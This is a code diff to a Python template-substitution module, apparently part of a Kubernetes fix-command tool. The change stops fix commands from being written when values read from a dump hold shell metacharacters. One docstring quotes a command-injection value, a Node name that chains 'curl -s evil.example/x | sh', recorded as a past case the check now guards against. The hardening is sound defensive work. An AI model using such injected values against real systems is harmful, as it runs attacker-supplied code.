@@ -15,6 +15,7 @@ from typing import Any
 from .errors import EvaluationError, UnknownName
 from .model import PLACEHOLDER
 from .operators import show
+from .shell import trusted, untrusted_characters, written
 
 #: A template as pieces: literal text, or (name, members, the placeholder as written).
 Piece = str | tuple[str, tuple[str, ...], str]
@@ -40,6 +41,38 @@ def substitute(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
     binding, var or context), and ``{name.a.b}`` with a member of it (mapping keys only); an unknown name
     is left as written, one that cannot be computed says so in its place. A context joined on a binding of
     ``extra`` (a forEach item) is read with it."""
+    return _substituted(template, scope, extra, None)
+
+
+def formatted(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
+    """``substitute``, for a ``format`` reference: ``rules.shell.Written`` where every value in it is trusted, so that
+    a fix may hold the text it makes (``$(kubectl get ...)``, a quoted patch) as the pack wrote it."""
+    untrusted: list[tuple[str, Any]] = []
+    text = _substituted(template, scope, extra, untrusted)
+    return text if untrusted else written(text)
+
+
+def command(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
+    """``substitute``, for a fix: where a value in it is not trusted (``rules.shell``: a value of the dump that a shell
+    would read as more than one plain word), no command is written, only why (trial 180: a Node named
+    ``gpu-1 && curl -s evil.example/x | sh #`` made ``kubectl label node {name} ...`` run the curl)."""
+    untrusted: list[tuple[str, Any]] = []
+    text = _substituted(template, scope, extra, untrusted)
+    if not untrusted:
+        return text
+    names = ", ".join(dict.fromkeys(name for name, _ in untrusted))
+    found = dict.fromkeys(c for _, value in untrusted for c in untrusted_characters(value))
+    chars = " ".join("a blank" if c == " " else c if c.isprintable() else f"U+{ord(c):04X}" for c in found)
+    return (
+        f"No fix command is written for this object: what it would name ({names}) holds characters a shell reads as"
+        f" more than a plain word ({chars}), which the API server accepts in no name, namespace, label or resource"
+        " name. The dump was written by hand or altered: see where it came from before you run anything it names."
+    )
+
+
+def _substituted(template: str, scope: Any, extra: Mapping[str, Any], untrusted: list[tuple[str, Any]] | None) -> str:
+    """The text of ``template`` in ``scope``; with ``untrusted`` a list, each placeholder whose value is not
+    ``rules.shell.trusted`` is added to it (its name and value)."""
     parts = pieces(template)
     if len(parts) == 1 and isinstance(parts[0], str):
         return parts[0]
@@ -50,14 +83,14 @@ def substitute(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
         if isinstance(piece, str):
             out.append(piece)
             continue
-        name, members, written = piece
+        name, members, written_as = piece
         if name in extra:
             value = extra[name]
         else:
             try:
                 value = scope.var(name)
             except UnknownName:
-                out.append(written)
+                out.append(written_as)
                 continue
             except EvaluationError as exc:
                 # trial 167: a var that could not be computed was left as "{name}", read as a template's slip
@@ -65,6 +98,8 @@ def substitute(template: str, scope: Any, extra: Mapping[str, Any]) -> str:
                 continue
         for member in members:
             value = lookup(value, member)
+        if untrusted is not None and not trusted(value):
+            untrusted.append((name, value))
         out.append(show(value))
     return "".join(out)
 
